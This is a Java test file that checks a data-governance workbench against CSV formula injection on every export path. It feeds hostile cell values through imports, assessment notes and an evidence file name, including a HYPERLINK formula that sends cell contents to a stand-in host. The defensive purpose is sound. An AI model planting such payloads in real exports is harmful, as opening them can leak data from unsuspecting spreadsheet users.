package org.custodian.logic.io;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.Reader;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import com.tngtech.archunit.base.DescribedPredicate;
import com.tngtech.archunit.core.domain.JavaClasses;
import com.tngtech.archunit.core.domain.JavaConstructorCall;
import com.tngtech.archunit.core.domain.JavaMethodCall;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import java.io.OutputStreamWriter;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.custodian.cli.CliContext;
import org.custodian.cli.CustodianCli;
import org.custodian.logic.assessment.AssessmentFiles;
import org.custodian.logic.inventory.DatasetExchange;
import org.custodian.logic.inventory.DatasetImportReport;
import org.custodian.logic.inventory.InventoryFiles;
import org.custodian.logic.io.csv.SafeCsvWriter;
import org.custodian.logic.sharing.AgreementExchange;
import org.custodian.logic.sharing.SharingFiles;
import org.custodian.logic.workbench.WorkbenchSession;
import org.custodian.model.assessment.Assessment;
import org.custodian.model.assessment.Question;
import org.custodian.model.assessment.QuestionType;
import org.custodian.model.classification.ReviewQuery;
import org.custodian.model.inventory.DatasetColumn;
import org.custodian.model.inventory.DatasetQuery;
import org.custodian.model.report.ReportFormat;
import org.custodian.model.report.ReportOptions;
import org.custodian.model.sharing.AgreementColumn;
import org.custodian.model.sharing.AgreementQuery;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every CSV the workbench writes, run over records whose text starts with what a spreadsheet takes for a formula
 * ({@code = + - @}, tab, carriage return): no cell of any written file, header included, starts with one of those
 * unguarded. The hostile text arrives the way it would in a department: in files imported from elsewhere, typed
 * into answers and notes, and as the name of a file given as evidence.
 */
class CsvExportSafetyTest {

    /** What a spreadsheet runs: a link that sends data away, arithmetic, a function, and each behind tab or CR. */
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://x.test/?\"&A1,\"Open\")", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1");
    static final Set<Character> TRIGGERS = Set.of('=', '+', '-', '@', '\t', '\r');

    @TempDir
    static Path dir;
    static Path file;
    static DatasetImportReport rejectedDatasets;
    static DatasetImportReport rejectedAgreements;
    static UUID assessment;

    @BeforeAll
    static void hostileWorkbench() throws IOException {
        file = SharingFiles.agreementsFile(dir.resolve("hostile.db"));
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            rejectedDatasets = importDatasets(s);
            importDecisions(s);
            rejectedAgreements = importAgreements(s);
            assessment = hostileAssessment(s);
        }
    }

    /** Datasets whose free text is hostile, one row with a hostile code (rejected), and a hostile extra column. */
    private static DatasetImportReport importDatasets(WorkbenchSession s) throws IOException {
        List<String> header = new ArrayList<>(DatasetColumn.headers());
        header.add("=HYPERLINK(\"http://x.test\",\"header\")");
        StringBuilder csv = new StringBuilder(CSVFormat.RFC4180.format(header.toArray())).append("\r\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String h = HOSTILE.get(i);
            InventoryFiles.Row row = InventoryFiles.Row.valid("HX-000" + i)
                    .with(DatasetColumn.TITLE_EN, h).with(DatasetColumn.TITLE_TC, h)
                    .with(DatasetColumn.DESCRIPTION_EN, h).with(DatasetColumn.DESCRIPTION_TC, h)
                    .with(DatasetColumn.CUSTODIAN, h).with(DatasetColumn.KEYWORDS, h)
                    .with(DatasetColumn.SOURCE_SYSTEM, h).with(DatasetColumn.PERSONAL_DATA_CATEGORIES, "");
            csv.append(cells(row, h)).append("\r\n");
        }
        for (String h : HOSTILE) {
            // Refused (its code is not a code): the rejected-rows file gives its cells back as the file had them.
            InventoryFiles.Row row = InventoryFiles.Row.valid(h).with(DatasetColumn.TITLE_EN, h)
                    .with(DatasetColumn.CUSTODIAN, h);
            csv.append(cells(row, h)).append("\r\n");
        }
        Path source = Files.writeString(dir.resolve("hostile-datasets.csv"), csv.toString());
        DatasetImportReport report = s.datasetExchange().importFile(source, StandardCharsets.UTF_8, false,
                WorkProgress.NONE);
        assertEquals(HOSTILE.size(), report.count(org.custodian.logic.inventory.RowOutcome.CREATED),
                () -> report.rows().toString());
        assertEquals(HOSTILE.size(), report.count(org.custodian.logic.inventory.RowOutcome.REJECTED));
        return report;
    }

    private static String cells(InventoryFiles.Row row, String extra) {
        List<String> cells = new ArrayList<>();
        for (DatasetColumn c : DatasetColumn.values()) {
            cells.add(row.get(c));
        }
        cells.add(extra);
        return CSVFormat.RFC4180.format(cells.toArray());
    }

    /** A decision on each hostile dataset whose rationale and names are hostile, due for review soon. */
    private static void importDecisions(WorkbenchSession s) {
        StringBuilder csv = new StringBuilder("dataset_code,level,rationale,proposed_by,justification,review_due\r\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String h = HOSTILE.get(i);
            csv.append(CSVFormat.RFC4180.format("HX-000" + i, "RESTRICTED", h + " rationale", h, h,
                    LocalDate.now().plusDays(10).toString())).append("\r\n");
        }
        DatasetImportReport report = s.decisionExchange().importCsv("hostile-decisions.csv",
                new ByteArrayInputStream(csv.toString().getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8,
                false, WorkProgress.NONE);
        assertFalse(report.anyRejected(), () -> report.rows().toString());
    }

    /** Draft agreements with hostile titles and purposes, and a rejected one, under a hostile extra column. */
    private static DatasetImportReport importAgreements(WorkbenchSession s) {
        List<String> header = new ArrayList<>(AgreementColumn.headers());
        header.add("@hostile-column");
        StringBuilder csv = new StringBuilder(CSVFormat.RFC4180.format(header.toArray())).append("\r\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String h = HOSTILE.get(i);
            Map<AgreementColumn, String> f = new EnumMap<>(SharingFiles.draftFields("HX-DSA-" + i));
            f.put(AgreementColumn.TITLE, h);
            f.put(AgreementColumn.PURPOSE, h);
            csv.append(agreementRow(f, h)).append("\r\n");
        }
        Map<AgreementColumn, String> refused = new EnumMap<>(SharingFiles.draftFields("HX-DSA-R"));
        refused.put(AgreementColumn.TYPE, "=not-a-type");
        refused.put(AgreementColumn.TITLE, "-refused");
        csv.append(agreementRow(refused, "\t=1")).append("\r\n");
        DatasetImportReport report = s.agreementExchange().importCsv("hostile-agreements.csv",
                new ByteArrayInputStream(csv.toString().getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8,
                false, WorkProgress.NONE);
        assertEquals(1, report.count(org.custodian.logic.inventory.RowOutcome.REJECTED), () -> report.rows().toString());
        return report;
    }

    private static String agreementRow(Map<AgreementColumn, String> f, String extra) {
        List<String> cells = new ArrayList<>();
        for (AgreementColumn c : AgreementColumn.values()) {
            cells.add(f.get(c));
        }
        cells.add(extra);
        return CSVFormat.RFC4180.format(cells.toArray());
    }

    /** An assessment of a hostile dataset: hostile answers, notes, an evidence reference and an evidence file name. */
    private static UUID hostileAssessment(WorkbenchSession s) throws IOException {
        Assessment a = AssessmentFiles.done(s.assessments().create(s.assessments().catalog().latest("privacy-impact")
                .orElseThrow(), "=HYPERLINK(\"http://x.test\",\"assessment\")", AssessmentFiles.subject("HX-0000")));
        // Questions every assessment shows, so their answers and notes are in the report.
        List<Question> shown = s.assessments().templateOf(a).questions().stream().filter(q -> q.showIf() == null)
                .toList();
        List<Question> texts = shown.stream().filter(q -> q.type() == QuestionType.TEXT).toList();
        int notes = Math.min(shown.size(), HOSTILE.size());
        for (int i = 0; i < notes; i++) {
            AssessmentFiles.done(s.assessments().note(a.key(), shown.get(i).id(), HOSTILE.get(i)));
        }
        for (int i = 0; i < texts.size(); i++) {
            AssessmentFiles.done(s.assessments().answer(a.key(), texts.get(i).id(),
                    HOSTILE.get((notes + i) % HOSTILE.size())));
        }
        AssessmentFiles.done(s.assessments().addEvidenceReference(a.key(), shown.get(0).id(), "@evidence-elsewhere"));
        Path evidence = Files.writeString(dir.resolve("=HYPERLINK(1).txt"), "minutes");
        AssessmentFiles.done(s.assessments().addEvidenceFile(a.key(), shown.get(1).id(), evidence));
        return a.key();
    }

    // ---- one writer ---------------------------------------------------------------------------------------------

    /** How Commons CSV turns cells into text: a printer, or a format asked to print or format a record. */
    static final Set<String> PRINTING = Set.of("print", "printer", "printRecord", "println", "format");

    private static JavaClasses main;

    /** The main classes, without tests, as ArchitectureTest reads them; read once, it takes seconds. */
    static synchronized JavaClasses mainClasses() {
        if (main == null) {
            main = new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
                    .importPackages("org.custodian");
        }
        return main;
    }

    @Test
    void noClassButSafeCsvWriterTurnsCellsIntoCsv() {
        JavaClasses classes = mainClasses();
        noClasses().that().doNotHaveFullyQualifiedName(SafeCsvWriter.class.getName())
                .should().dependOnClassesThat().haveFullyQualifiedName(CSVPrinter.class.getName())
                .because("every CSV goes through the one writer that neutralises formula cells").check(classes);
        noClasses().that().doNotHaveFullyQualifiedName(SafeCsvWriter.class.getName())
                .should().callMethodWhere(DescribedPredicate.describe("CSVFormat printing or formatting a record",
                        (JavaMethodCall call) -> call.getTargetOwner().isEquivalentTo(CSVFormat.class)
                                && PRINTING.contains(call.getName())))
                .because("a CSV line made by hand skips the formula guard").check(classes);
        noClasses().that().resideOutsideOfPackage("org.custodian.logic.io.csv..")
                .should().dependOnClassesThat().resideInAPackage("org.apache.commons.csv..")
                .because("CsvSource reads and SafeCsvWriter writes; nothing else needs Commons CSV").check(classes);
    }

    /**
     * A CSV can also be written by hand as text. Only these write text to a stream or file themselves: the CSV
     * writer, the command line and the app's entry points (the console), the window's settings (a properties file)
     * and the benchmarks (their YAML templates). Everything else hands bytes from a writer that knows its format
     * (the CSV writer, Jackson, the report layout) to {@link AtomicOutput}.
     */
    @Test
    void noOtherClassWritesTextByHand() {
        JavaClasses classes = mainClasses();
        DescribedPredicate<JavaConstructorCall> textWriter = DescribedPredicate.describe(
                "a writer of text onto bytes", call -> call.getTargetOwner().isAssignableTo(OutputStreamWriter.class)
                        || call.getTargetOwner().isAssignableTo(PrintWriter.class)
                        || call.getTargetOwner().isAssignableTo(java.io.PrintStream.class));
        DescribedPredicate<JavaMethodCall> textToFile = DescribedPredicate.describe("Files writing text",
                call -> call.getTargetOwner().isEquivalentTo(Files.class) && (call.getName().equals("writeString")
                        || call.getName().equals("newBufferedWriter") || (call.getName().equals("write")
                        && call.getTarget().getRawParameterTypes().get(1).isAssignableTo(Iterable.class))));
        noClasses().that().doNotHaveFullyQualifiedName(SafeCsvWriter.class.getName())
                .and().doNotHaveFullyQualifiedName("org.custodian.ui.shell.ShellSettings")
                // the data-flow map as SVG: XML text, no cell in it
                .and().doNotHaveFullyQualifiedName("org.custodian.logic.oversight.FlowMapSvg")
                .and().resideOutsideOfPackages("org.custodian.cli..", "org.custodian.app..",
                        "org.custodian.logic.bench..")
                .should().callConstructorWhere(textWriter).orShould().callMethodWhere(textToFile)
                .because("a CSV written by hand skips the formula guard").check(classes);
    }

    /**
     * The same in the sources: no CSV line joined by hand (cells joined with a comma) outside the writer. The one
     * comma-joined texts there are in the store, and they are JSON arrays.
     */
    @Test
    void noSourceJoinsCellsWithCommas() throws IOException {
        Pattern joined = Pattern.compile("(join|joining)\\(\\s*\",\"|append\\(\\s*(','|\",\")\\s*\\)");
        Set<String> known = Set.of("store/AgreementRepository.java", "store/DataFlowRepository.java");
        Path main = Path.of("src", "main", "java", "org", "custodian");
        List<String> found = new ArrayList<>();
        try (Stream<Path> sources = Files.walk(main)) {
            for (Path source : sources.filter(p -> p.toString().endsWith(".java")).toList()) {
                String name = main.relativize(source).toString().replace('\\', '/');
                if (name.equals("logic/io/csv/SafeCsvWriter.java") || known.contains(name)) {
                    continue;
                }
                List<String> lines = Files.readAllLines(source, StandardCharsets.UTF_8);
                for (int i = 0; i < lines.size(); i++) {
                    if (joined.matcher(lines.get(i)).find()) {
                        found.add(name + ":" + (i + 1) + ": " + lines.get(i).strip());
                    }
                }
            }
        }
        assertEquals(List.of(), found, "cells joined with commas by hand; write them with SafeCsvWriter");
    }

    // ---- the export paths ---------------------------------------------------------------------------------------

    @Test
    void datasetsExportGuardsEveryFormulaCell() throws IOException {
        Path out = dir.resolve("datasets.csv");
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            s.datasetExchange().export(DatasetQuery.all(), DatasetExchange.Format.CSV, out, false, null,
                    WorkProgress.NONE);
        }
        assertGuarded(out, "=+-@");
    }

    @Test
    void rejectedRowsFileGuardsEveryFormulaCellAndItsHeader() throws IOException {
        Path datasets = dir.resolve("datasets-rejected.csv");
        Path agreements = dir.resolve("agreements-rejected.csv");
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            s.datasetExchange().writeRejected(rejectedDatasets, datasets);
            s.datasetExchange().writeRejected(rejectedAgreements, agreements);
        }
        // The rejected cells come back as the file spelt them, tab and carriage return included.
        assertGuarded(datasets, "=+-@\t\r");
        assertGuarded(agreements, "=-@\t");
    }

    @Test
    void decisionsExportGuardsEveryFormulaCell() throws IOException {
        Path out = dir.resolve("decisions.csv");
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            s.decisionExchange().export(out, WorkProgress.NONE);
        }
        assertGuarded(out, "=+-@");
    }

    @Test
    void agreementsExportGuardsEveryFormulaCell() throws IOException {
        Path out = dir.resolve("agreements.csv");
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            s.agreementExchange().export(AgreementQuery.all(LocalDate.now()), AgreementExchange.Format.CSV, out,
                    WorkProgress.NONE);
        }
        assertGuarded(out, "=+-@");
    }

    @Test
    void everyReportAsCsvGuardsEveryFormulaCell() throws IOException {
        Map<String, Path> written = new LinkedHashMap<>();
        try (WorkbenchSession s = InventoryFiles.open(file)) {
            var reports = s.reports();
            ReportOptions options = ReportOptions.defaults();
            written.put("inventory", write(s, reports.inventory(DatasetQuery.all(), "", options), "inventory"));
            written.put("agreements", write(s, reports.agreements(AgreementQuery.all(LocalDate.now()), "", options),
                    "agreements"));
            written.put("reviews", write(s, reports.reviews(ReviewQuery.dueWithin(LocalDate.now(), 30), options),
                    "reviews"));
            written.put("assessment", write(s, reports.assessment(assessment, options), "assessment"));
        }
        assertGuarded(written.get("inventory"), "=+-@");
        assertGuarded(written.get("agreements"), "=+-@");
        assertGuarded(written.get("reviews"), "=+-@");
        assertGuarded(written.get("assessment"), "=+-@");
    }

    private static Path write(WorkbenchSession s, org.custodian.logic.report.ReportContent content, String name)
            throws IOException {
        Path out = dir.resolve("report-" + name + ".csv");
        s.reports().write(content, ReportFormat.CSV, out, null, WorkProgress.NONE);
        return out;
    }

    @Test
    void commandLineListsAsCsvGuardEveryFormulaCell() throws IOException {
        assertGuarded("agreements list", cli("agreements", "list", "--format", "csv"), "=+-@");
        assertGuarded("reviews due", cli("reviews", "due", "--format", "csv"), "=+-@");
        assertGuarded("assessments list", cli("assessments", "list", "--format", "csv"), "=");
    }

    private static String cli(String... args) {
        List<String> all = new ArrayList<>(List.of("--db", file.toString()));
        all.addAll(List.of(args));
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int exit = CustodianCli.execute(new CliContext(dir.resolve("home/workbench.db"), "cli-officer",
                new PrintWriter(out), new PrintWriter(err)), all.toArray(String[]::new));
        assertEquals(0, exit, err::toString);
        return out.toString();
    }

    // ---- the check ----------------------------------------------------------------------------------------------

    static void assertGuarded(Path csv, String expectedGuards) throws IOException {
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), csv + " starts with a BOM, for spreadsheets");
        assertGuarded(csv.getFileName().toString(), text.substring(1), expectedGuards);
    }

    /**
     * No cell starts with a formula character; and the file did carry hostile text, guarded: for each of
     * {@code expectedGuards}, some cell starts with an apostrophe and then that character.
     */
    static void assertGuarded(String what, String text, String expectedGuards) throws IOException {
        Set<Character> guarded = new TreeSet<>();
        int cells = 0;
        try (Reader r = new StringReader(text); CSVParser p = CSVFormat.RFC4180.builder().get().parse(r)) {
            for (CSVRecord record : p) {
                for (int i = 0; i < record.size(); i++) {
                    String cell = record.get(i);
                    cells++;
                    if (cell.isEmpty()) {
                        continue;
                    }
                    assertFalse(TRIGGERS.contains(cell.charAt(0)), what + ", line " + record.getRecordNumber()
                            + ", column " + (i + 1) + " starts with a formula character: " + cell);
                    if (cell.length() > 1 && cell.charAt(0) == '\'' && TRIGGERS.contains(cell.charAt(1))) {
                        guarded.add(cell.charAt(1));
                        assertEquals(cell.substring(1), SafeCsvWriter.restore(cell), "an import gives it back");
                    }
                }
            }
        }
        assertTrue(cells > 0, what + " has cells");
        for (char c : expectedGuards.toCharArray()) {
            assertTrue(guarded.contains(c), what + " carried a hostile cell starting with "
                    + (c == '\t' ? "tab" : c == '\r' ? "CR" : String.valueOf(c)) + ", guarded; guarded: " + guarded);
        }
    }
}
